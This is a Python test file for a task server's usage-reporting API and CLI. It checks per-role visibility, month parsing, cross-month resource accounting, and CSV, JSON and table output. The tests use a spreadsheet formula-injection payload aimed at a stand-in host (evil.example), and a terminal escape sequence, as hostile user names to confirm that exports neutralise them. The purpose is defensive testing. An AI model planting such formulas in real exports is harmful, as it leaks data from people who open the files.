"""What users and groups used, over HTTP: who sees what, and that each task counts once, with all it had."""

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tesk.identity import SERVER, Identity, Owner
from tesk.life.status import TaskStatus
from tesk.store.base import NewTask
from tesk.store.identifiers import now_ms
from tesk.tes import OutputFileLog, State, TaskLog
from tesk.usage import Used, month_of
from tests.api.conftest import Running, postgres_server, running
from tests.people.cards import ByName
from tests.servers.cluster import until

__all__ = ["postgres_server"]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"bill")'
LAB = frozenset({"lab"})
PEOPLE = {
    "ann": Identity(user="ann", groups=LAB, default_group="lab"),
    "manager": Identity(user="max", groups=LAB, manages=LAB),
    "admin": Identity(user="root", is_admin=True),
    "stranger": Identity(user="lab"),
    "writer": Identity(user="ann", scopes=frozenset({"submit"})),
}
DOCUMENT = {"executors": [{"image": "alpine", "command": ["true"]}]}
START, END = "2026-11-30T23:59:58.500Z", "2026-12-01T00:00:02.250Z"


@pytest.fixture(params=["sqlite", "postgresql"])
def server(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    database = request.getfixturevalue("postgres_server").new_database() if request.param == "postgresql" else ""
    folder = tmp_path_factory.mktemp("usage")
    chosen: dict[str, Any] = {"trusted_addresses": ["192.0.2.1"], "default_cpu_cores": 2, "default_ram_gb": 0.5}
    with running(folder, frozenset({"gpu"}), database, [ByName(PEOPLE)], **chosen) as started:
        yield started


def ask(server: Running, who: str, **query: str) -> httpx.Response:
    return server.client.get("/api/v1/usage", params=query, headers={"Authorization": f"Bearer {who}"})


def lines(server: Running, who: str = "admin", month: str = "2026") -> list[dict[str, Any]]:
    answer = ask(server, who, month=month)
    assert answer.status_code == 200, answer.text
    found: list[dict[str, Any]] = answer.json()["usage"]
    return found


def ended(server: Running, owner: Owner, *used: Used) -> None:
    task_id = server.do(server.store.create(NewTask(basic=b"{}", owner=owner)))
    server.do(server.store.advance(task_id, State.COMPLETE, TaskLog(), used=used))


def test_users_see_their_own_managers_their_groups_and_admins_all(server: Running) -> None:
    used = Used("2026-11", 1, 2500, 1000, 0, 3)
    for owner in (Owner("ann", "lab"), Owner("ann"), Owner("bob", "lab"), Owner("cy"), Owner()):
        ended(server, owner, used)
    seen = {who: [(line["user"], line["group"]) for line in lines(server, who)] for who in PEOPLE if who != "writer"}
    assert seen == {
        "ann": [("ann", ""), ("ann", "lab")],
        "manager": [("ann", "lab"), ("bob", "lab")],
        "admin": [("", ""), ("ann", ""), ("ann", "lab"), ("bob", "lab"), ("cy", "")],
        "stranger": [],
    }
    assert ask(server, "writer").status_code == 403
    assert server.client.get("/api/v1/usage").status_code == 401
    assert lines(server, "ann")[0] == {
        "month": "2026-11", "user": "ann", "group": "", "tasks": 1,
        "core_seconds": 2.5, "ram_gib_seconds": 1, "gpu_seconds": 0, "bytes_out": 3,
    }  # fmt: skip


def test_a_month_a_year_or_the_present_month(server: Running) -> None:
    present = month_of(now_ms())
    for month in ("2019-12", "2020-01", "2020-12", "2021-01", present):
        ended(server, Owner("ann"), Used(month, 1, 1, 1, 1, 1))
    assert [line["month"] for line in lines(server, month="2020")] == ["2020-01", "2020-12"]
    assert [line["month"] for line in lines(server, month="2020-12")] == ["2020-12"]
    assert lines(server, month="2020-02") == []
    assert [line["month"] for line in ask(server, "ann").json()["usage"]] == [present]


@pytest.mark.parametrize(
    "query", [{"month": "2026-13"}, {"month": "26"}, {"month": "2026-1"}, {"month": "x"}, {"format": "xml"}]
)
def test_what_is_no_month_or_format_is_refused(server: Running, query: dict[str, str]) -> None:
    answer = ask(server, "admin", **query)
    assert (answer.status_code, answer.json()["field"]) == (400, next(iter(query)))


def test_csv_holds_no_formula_whatever_users_and_groups_are_called(server: Running) -> None:
    ended(server, Owner(HOSTILE, '"a,b\n+1'), Used("2026-11", 1, 2500, 1000, 0, 3))
    answer = ask(server, "admin", month="2026-11", format="csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert list(csv.reader(io.StringIO(answer.text, newline=""))) == [
        ["month", "user", "group", "tasks", "core_seconds", "ram_gib_seconds", "gpu_seconds", "bytes_out"],
        ["2026-11", f"'{HOSTILE}", '"a,b\n+1', "1", "2.5", "1.0", "0.0", "3"],
    ]
    assert lines(server)[0]["user"] == HOSTILE


def run(server: Running, who: str, *statuses: TaskStatus, **resources: Any) -> str:
    """Posts a task, has the engine take it and say these, one after the other."""
    server.engine.room += 1
    document = DOCUMENT | {"resources": resources}
    answer = server.client.post("/v1/tasks", json=document, headers={"Authorization": f"Bearer {who}"})
    task_id: str = answer.json()["id"]
    assert server.engine.submitted.get(timeout=60) == task_id
    for status in statuses:
        report(server, task_id, status)
        wanted = status.state
        until(lambda wanted=wanted: state(server, task_id) is wanted, 30, wanted.name)  # type: ignore[misc]
    return task_id


def report(server: Running, task_id: str, status: TaskStatus) -> None:
    assert server.engine.report is not None
    server._loop.call_soon_threadsafe(server.engine.report, task_id, status)


def state(server: Running, task_id: str) -> State | None:
    row = server.do(server.store.get(task_id, "MINIMAL", SERVER))
    return row and row.state


def amounts(server: Running) -> list[tuple[Any, ...]]:
    return [tuple(line.values())[3:] for line in lines(server)]


RUNNING = TaskStatus(State.RUNNING, TaskLog(start_time=START))
OUTPUTS = [OutputFileLog("s3://b/o", "/o", "12")]


def test_a_task_that_ends_used_what_it_asked_for_in_both_months(server: Running) -> None:
    end = TaskStatus(State.COMPLETE, TaskLog(start_time=START, end_time=END, outputs=OUTPUTS))
    task_id = run(server, "ann", RUNNING, end, cpu_cores=4, ram_gb=8, backend_parameters={"GPU": "2"})
    for _ in range(3):
        report(server, task_id, end)
    assert [(line["month"], line["user"], line["group"]) for line in lines(server)] == [
        ("2026-11", "ann", "lab"),
        ("2026-12", "ann", "lab"),
    ]
    assert amounts(server) == [(0, 6, 12, 3, 0), (1, 9, 18, 4.5, 12)]
    assert server.do(server.store.core_seconds("2026-12", Owner("ann", "lab"))) == (9, 9)


def test_all_attempts_count_from_the_first_start(server: Running) -> None:
    first = TaskLog(start_time=START, end_time="2026-11-30T23:59:59Z")
    last = TaskLog(start_time="2026-12-01T00:00:01Z", end_time=END)
    run(server, "ann", TaskStatus(State.EXECUTOR_ERROR, last, (first,)))
    assert amounts(server) == [(0, 3, 0.75, 0, 0), (1, 4.5, 1.125, 0, 0)]


def test_a_start_that_is_on_record_counts_where_the_end_does_not_tell_it(server: Running) -> None:
    run(server, "ann", RUNNING, TaskStatus(State.SYSTEM_ERROR, TaskLog(end_time=END)))
    assert amounts(server) == [(0, 3, 0.75, 0, 0), (1, 4.5, 1.125, 0, 0)]


def test_an_end_that_is_told_before_the_dispatcher_knows_the_task_counts_in_full(server: Running) -> None:
    task_id = run(server, "ann", cpu_cores=4)
    server.dispatcher.work.active.pop(task_id)
    report(server, task_id, TaskStatus(State.COMPLETE, TaskLog(start_time=START, end_time=END)))
    until(lambda: lines(server), 30, "the task's usage")
    assert amounts(server) == [(0, 6, 0.75, 0, 0), (1, 9, 1.125, 0, 0)]


def test_a_task_that_never_started_used_nothing(server: Running) -> None:
    made = server.client.post("/v1/tasks", json=DOCUMENT, headers={"Authorization": "Bearer ann"}).json()["id"]
    cancelled = server.client.post(f"/v1/tasks/{made}:cancel", json={}, headers={"Authorization": "Bearer ann"})
    assert cancelled.status_code == 200
    run(server, "ann", TaskStatus(State.SYSTEM_ERROR, TaskLog(system_logs=["error: there is no such image"])))
    assert lines(server, month="") == lines(server) == []


def tesk(server: Running, *arguments: str, code: int = 0) -> str:
    environment = {**os.environ, "TESK_TOKEN": "admin", "TESK_SERVER": server.url, "COLUMNS": "200"}
    command = [sys.executable, "-m", "tesk", "usage", *arguments]
    done = subprocess.run(command, env=environment, check=False, capture_output=True, text=True, timeout=300)
    assert done.returncode == code, done.stderr
    return done.stdout


def test_tesk_usage_prints_a_table_json_or_csv(server: Running) -> None:
    ended(server, Owner("\x1b[2Jann", "=lab"), Used("2026-11", 1200, 3_600_000_000, 5_400_000, 0, 12345))
    ended(server, Owner(), Used("2026-12", 1, 1, 0, 0, 0))
    [heading, first, second] = tesk(server, "--table", "--month", "2026").splitlines()
    assert " ".join(heading.split()) == "MONTH USER GROUP TASKS CORE HOURS GIB HOURS GPU HOURS BYTES OUT"
    assert first.split() == ["2026-11", r"\x1b[2Jann", "=lab", "1,200", "1,000.00", "1.50", "0.00", "12,345"]
    assert second.split()[:4] == ["2026-12", "-", "-", "1"]
    assert json.loads(tesk(server, "--month", "2026")) == lines(server)
    written = tesk(server, "--month", "2026-11", "--csv")
    assert written.splitlines()[1:] == [r'"2026-11","\x1b[2Jann","' + """'=lab",1200,3600000.0,5400.0,0.0,12345"""]
    assert tesk(server, "--month", "2020") == "[]\n"
    tesk(server, "--month", "soon", code=1)
    tesk(server, "--csv", "--json", code=2)
